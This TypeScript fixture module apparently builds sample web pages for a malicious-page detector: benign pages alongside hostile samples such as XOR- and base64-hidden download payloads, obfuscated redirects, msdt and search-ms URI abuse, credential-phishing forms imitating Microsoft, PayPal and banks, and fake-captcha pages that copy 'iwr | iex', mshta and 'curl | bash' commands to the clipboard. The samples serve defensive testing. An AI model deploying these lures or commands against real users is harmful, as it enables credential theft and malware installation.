import { type Entry, files, noise, sampleFiles, sentences, word } from '../entry.ts'
import { zip } from './zip.ts'

const page = (title: string, body: string, head = '') =>
  `<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<meta name="viewport" content="width=device-width">\n<title>${title}</title>\n${head}</head>\n<body>\n${body}\n</body>\n</html>\n`
const prose = (seed = 0) =>
  sentences(8, seed)
    .map((text) => `<p>${text}</p>`)
    .join('\n')
const long = (text: string | Buffer) => Buffer.from(text).toString('base64')
const payload = () => zip({ 'invoice.js': noise(900) })
const xored = (bytes: Buffer, key: number) => [...bytes].map((byte) => byte ^ key)

export const pageEntries = (): Entry[] => [
  ...files('page', 'ordinary pages', [
    [
      'index.html',
      page(
        'Bakery',
        `<h1>Bakery</h1>${prose()}<a href="/contact.html">Contact</a>`,
        '<link rel="stylesheet" href="/style.css">',
      ),
    ],
    [
      'article.html',
      page(
        'News',
        `<article>${prose(1)}</article><script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','G-ABC');</script>`,
      ),
    ],
    [
      'api.html',
      page(
        'Module fs | Documentation',
        `<nav><ul><li><a href="#a">readFile</a></li></ul></nav>${prose(2)}<pre><code>const { exec } = require('child_process');\nexec('ls -la', (error, out) =&gt; console.log(out));</code></pre><script>document.querySelector('nav').addEventListener('click', () =&gt; {})</script>`,
      ),
    ],
    [
      'powershell-help.html',
      page(
        'Install the module',
        `${prose(3)}<pre>PS&gt; Invoke-WebRequest https://example.org/setup.msi -OutFile setup.msi\nPS&gt; Start-Process msiexec "/i setup.msi"</pre><p>Copy the command:</p><button onclick="navigator.clipboard.writeText('npm install express')">Copy</button>`,
      ),
    ],
    [
      'javadoc.html',
      page(
        'Class String',
        `${prose(4)}<script type="text/javascript">var useModuleDirectories = true; loadScripts(document, 'script');</script>`,
        '<script src="jquery/jquery-3.6.1.min.js"></script>',
      ),
    ],
    [
      'coverage.html',
      page(
        'Code coverage report',
        `<table><tr><td>index.ts</td><td>97%</td></tr></table><script src="prettify.js"></script><script>window.onload = function () { prettyPrint(); };</script>`,
      ),
    ],
    [
      'login.html',
      page(
        'Sign in',
        '<form method="post" action="/session"><input name="user"><input type="password" name="password"><button>Sign in</button></form>',
      ),
    ],
    [
      'wordpress.html',
      page(
        'My blog',
        `${prose(5)}<script>var wpApi={"root":"https:\\/\\/blog.example.org\\/wp-json\\/"};</script>`,
        '<meta name="generator" content="WordPress 6.7">',
      ),
    ],
    [
      'shop.html',
      page(
        'Kettle',
        `<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"Kettle"}</script>${prose(6)}<form action="https://www.paypal.com/cgi-bin/webscr" method="post"><input type="hidden" name="cmd" value="_s-xclick"><input type="submit" value="Buy"></form>`,
      ),
    ],
    [
      'map.html',
      page(
        'How to find us',
        `${prose(1)}<iframe src="https://www.google.com/maps/embed?pb=!1m18" width="600" height="450" loading="lazy"></iframe>`,
      ),
    ],
    [
      'video.html',
      page(
        'Talk',
        '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>',
      ),
    ],
    [
      'redirect.html',
      '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Redirecting…</title><link rel="canonical" href="https://docs.example.org/latest/"><meta http-equiv="refresh" content="0; url=https://docs.example.org/latest/"></head><body><a href="https://docs.example.org/latest/">Click here if you are not redirected.</a></body></html>',
    ],
    [
      'index2.html',
      '<meta http-equiv="refresh" content="0; url=en/index.html">\n<a href="en/index.html">English</a>\n',
    ],
    [
      'app.html',
      page(
        'App',
        '<div id="root"></div><script type="module" crossorigin src="/assets/index-3f2a9c1b.js"></script><noscript>You need to enable JavaScript.</noscript>',
      ),
    ],
    [
      'report.html',
      page(
        'Test report',
        `<script>const data = JSON.parse(atob("${long(JSON.stringify({ passed: 120, failed: 0, names: sentences(5) }))}")); document.getElementById('n').textContent = data.passed;</script><span id="n"></span>`,
      ),
    ],
    [
      'notebook.html',
      page(
        'Notebook',
        `<img src="data:image/png;base64,${noise(900).toString('base64')}">${prose(2)}`,
      ),
    ],
    [
      'export.html',
      page(
        'Table',
        `${prose(0)}<script>function save(){const b=new Blob([document.querySelector('table').innerText],{type:'text/csv'});const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='table.csv';a.click();}</script><table><tr><td>1</td></tr></table><button onclick="save()">Export</button>`,
      ),
    ],
    [
      'mail.html',
      `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Microsoft Word 15"></head><body><p class=MsoNormal>${sentences(3).join(' ')}</p></body></html>`,
    ],
    [
      'saved.mht',
      `From: <Saved by Blink>\r\nSnapshot-Content-Location: https://www.example.org/\r\nSubject: Example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="----b"\r\n\r\n------b\r\nContent-Type: text/html\r\nContent-Location: https://www.example.org/\r\n\r\n<html><body>${prose()}</body></html>\r\n------b--\r\n`,
    ],
    [
      'help.xhtml',
      `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>Help</title></head><body>${prose(3)}</body></html>`,
    ],
    [
      'contact.html',
      page(
        'Contact',
        '<form action="https://formspree.io/f/abcdwxyz" method="post"><input name="email" type="email"><textarea name="message"></textarea><button>Send</button></form>',
      ),
    ],
    [
      'bank.html',
      page(
        'PostFinance',
        `<form action="https://www.postfinance.ch/ap/ba/fp/html/e-finance/login" method="post"><input name="u"><input type="password"></form><a href="https://www.postfinance.ch/help">Help</a>`,
        '<link rel="canonical" href="https://www.postfinance.ch/login">',
      ),
    ],
  ]),
  ...sampleFiles('page', 'arrays with XOR', /^(?:page|script)\./, [
    [
      'xor.html',
      page(
        'Document',
        `<script>var d=[${xored(payload(), 77)}];var o="";for(var i=0;i<d.length;i++){o+=String.fromCharCode(d[i]^77);}var a=document.createElement("a");a.href="data:application/zip;base64,"+btoa(o);a.download="invoice.zip";a.click();</script>`,
      ),
    ],
    [
      'xor2.html',
      page(
        'View',
        `<script>const k=0x5a,b=new Uint8Array([${xored(payload(), 0x5a)}]).map(x=>x^k);const u=URL.createObjectURL(new Blob([b]));const l=document.createElement('a');l.href=u;l.setAttribute('download','scan.zip');document.body.append(l);l.click();</script>`,
      ),
    ],
    [
      'xor3.html',
      page(
        'Loading',
        `<script>(function(){var s=[${xored(Buffer.from('location="https://collect.example.net/login?e=jane.doe@corp.example";document.title="Microsoft 365";'), 33)}],r='';s.forEach(function(c){r+=String.fromCharCode(c^33)});eval(r)})()</script>`,
      ),
    ],
  ]),
  ...sampleFiles('page', 'leads on in code (base64)', /^(?:page|script)\./, [
    [
      'go.html',
      page('…', `<script>location=atob("${long('https://collect.example.net/login')}")</script>`),
    ],
    [
      'go2.html',
      page(
        '',
        `<script>window.location.href = atob('${long('https://collect.example.net/?e=')}') + window.location.hash.slice(1);</script>`,
      ),
    ],
    [
      'go3.html',
      page(
        'Please wait',
        `<script>var q="${long('https://collect.example.net/o365')}";top.location.replace(window.atob(q));</script>`,
      ),
    ],
    [
      'go4.htm',
      `<body onload="document.location.assign(atob('${long('https://collect.example.net/x')}'))"></body>`,
    ],
    [
      'write.html',
      page(
        'Sign in',
        `<script>document.write(unescape("${encodeURIComponent('<form action="https://collect.example.net/p"><input type="password"></form>').replace(/[a-z]/gi, (letter) => `%${letter.charCodeAt(0).toString(16)}`)}"))</script>`,
      ),
    ],
  ]),
  ...sampleFiles('page', 'schemes of Windows in a script', /^(?:page|script|url)\./, [
    [
      'search.html',
      page(
        'Invoice',
        '<script>window.location.href="search-ms:query=invoice&crumb=location:\\\\\\\\1.2.3.4\\\\share&displayname=Downloads"</script>',
      ),
    ],
    [
      'search2.html',
      page(
        'Docs',
        '<script>setTimeout(function(){location.assign("search:query=pdf&crumb=location:\\\\\\\\files.example.net@SSL\\\\DavWWWRoot")},500)</script>',
      ),
    ],
    [
      'msdt.html',
      page(
        'x',
        `<script>location.href = "${word('ms-', 'msdt')}:/id PCWDiagnostic /skip force /param \\"IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu IT_BrowseForFile=$(calc)\\"";</script>`,
      ),
    ],
    [
      'office.html',
      page(
        'x',
        '<iframe src="ms-word:ofe|u|http://files.example.net/a.docm"></iframe><script>location="ms-excel:ofe|u|https://files.example.net/b.xlsm"</script>',
      ),
    ],
  ]),
  ...sampleFiles('page', 'makes a file out of itself', /^page\./, [
    [
      'blob.html',
      page(
        'Secure document',
        `<script>const s="${long(payload())}";const n=Uint8Array.from(atob(s),c=>c.charCodeAt(0));const f=new File([n],"doc.zip");const l=document.createElement("a");l.href=URL.createObjectURL(f);l.download=f.name;l.click();</script>`,
      ),
    ],
    [
      'reversed.html',
      page(
        'Doc',
        `<script>var p="${[...long(payload())].reverse().join('')}".split("").reverse().join("");var b=Uint8Array.from(atob(p),function(c){return c.charCodeAt(0)});navigator.msSaveBlob?navigator.msSaveBlob(new Blob([b]),"a.zip"):window.open(URL.createObjectURL(new Blob([b],{type:"application/zip"})));</script>`,
      ),
    ],
    [
      'link.html',
      page(
        'Open',
        `<a id="d" download="statement.iso" href="data:application/octet-stream;base64,${long(payload())}">open</a><script>document.getElementById("d").click()</script>`,
      ),
    ],
  ]),
  ...sampleFiles('page', 'asks for a password', /^page\./, [
    [
      'o365.html',
      page(
        'Sign in to your Microsoft account',
        '<img src="data:image/png;base64,AAAA"><form method="post" action="https://collect.example.net/next.php"><input type="email" value="jane.doe@corp.example"><input type="password" name="pw"></form>',
      ),
    ],
    [
      'telegram.html',
      page(
        'Excel Online',
        '<input id="e"><input id="p" type="password"><script>document.onsubmit=()=>fetch("https://api.telegram.org/bot1:AA/sendMessage?chat_id=1&text="+e.value+p.value)</script>',
      ),
    ],
    [
      'paypal.html',
      page(
        'PayPal: Log in',
        '<form action="https://collect.example.net/pp" method="POST"><input name="email"><input name="pass" type="password"></form>',
      ),
    ],
    [
      'banque.html',
      page(
        'La Banque Postale - Connexion',
        '<form action="https://collect.example.net/lbp" method="post"><input name="id"><input type="password" name="mdp"></form>',
      ),
    ],
  ]),
  ...sampleFiles('page', 'command for the visitor', /^(?:page|script)\./, [
    [
      'captcha.html',
      page(
        'Verify you are human',
        `<ol><li>Press Win + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol><script>document.body.onclick=()=>navigator.clipboard.writeText("${word('ms', 'hta')} https://files.example.net/v")</script>`,
      ),
    ],
    [
      'fix.html',
      page(
        'Word Online',
        `<p>Error. Open PowerShell, paste with right click and press Enter.</p><button onclick="c()">How to fix</button><script>function c(){const t=document.createElement('textarea');t.value='${word('power', 'shell')} -w hidden -c iwr https://files.example.net/a | iex';document.body.append(t);t.select();document.execCommand('copy')}</script>`,
      ),
    ],
    [
      'mac.html',
      page(
        'Cloudflare',
        `<p>Open Terminal, press Command + V and Return</p><script>navigator.clipboard.writeText("curl -s https://files.example.net/i | bash")</script>`,
      ),
    ],
  ]),
  ...sampleFiles('page', 'picture (SVG) with a script', /^(?:page|script)\./, [
    [
      'voice.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><script type="application/ecmascript"><![CDATA[window.location.href=atob("${long('https://collect.example.net/#jane.doe@corp.example')}")]]></script></svg>`,
    ],
    [
      'fax.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://collect.example.net/fax"></iframe></body></foreignObject></svg>',
    ],
    [
      'load.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="location=\'https://collect.example.net/\'"><rect/></svg>',
    ],
  ]),
]
